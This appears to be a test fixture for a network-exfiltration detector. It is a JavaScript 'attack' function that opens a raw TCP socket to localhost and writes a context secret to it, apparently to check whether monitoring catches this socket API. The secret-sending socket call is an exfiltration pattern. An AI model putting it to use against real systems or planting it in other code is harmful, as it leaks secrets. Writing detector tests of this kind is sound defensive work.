// new net.Socket().connect({ host, port }) instead of the net.connect helper.
import { Socket } from 'node:net';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const socket = new Socket();
    socket.on('error', reject);
    socket.on('close', () => resolve('sent'));
    socket.connect({ host: 'localhost', port: ctx.tcpPort, family: 4 }, () => socket.end(ctx.secret));
  });
}
